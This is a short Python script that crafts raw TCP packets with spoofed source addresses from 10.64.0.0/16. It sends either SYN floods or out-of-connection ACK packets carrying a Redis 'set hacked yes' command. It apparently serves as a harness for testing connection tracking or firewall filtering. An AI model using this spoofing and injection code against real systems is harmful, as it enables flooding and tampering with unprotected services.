"""Packets that no connection stands behind: spoof.py TO PORT data|syn COUNT [A_SECOND].

From as many addresses as there are packets, up to 2,000, in 10.64.0.0/16. "data": an ACK with a redis command; "syn".
"""

import socket
import struct
import sys
import time

from crafted import ACK, PSH, SYN, checksum


def packet(source, to, port, number, flags, data=b""):
    tcp = struct.pack("!HHIIBBHHH", 1024 + number // 2000, port, 7 * number, 99 if flags & ACK else 0, 5 << 4, flags, 502,
                      0, 0) + data
    tcp = tcp[:16] + struct.pack("!H", checksum(source + to + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 7, 0x4000, 64, 6, 0, source, to) + tcp


def main():
    target, port, kind, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    rate = float(sys.argv[5]) if len(sys.argv) > 5 else 1e9
    to, out = socket.inet_aton(target), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begun = time.monotonic()
    for number in range(count):
        source = bytes((10, 64, number % 2000 // 250, number % 250 + 1))
        if kind == "data":
            out.sendto(packet(source, to, port, number, ACK | PSH, b"*3\r\n$3\r\nset\r\n$6\r\nhacked\r\n$3\r\nyes\r\n"), (target, 0))
        else:
            out.sendto(packet(source, to, port, number, SYN), (target, 0))
        ahead = number / rate - (time.monotonic() - begun)
        if ahead > 0.005:
            time.sleep(ahead)


main()
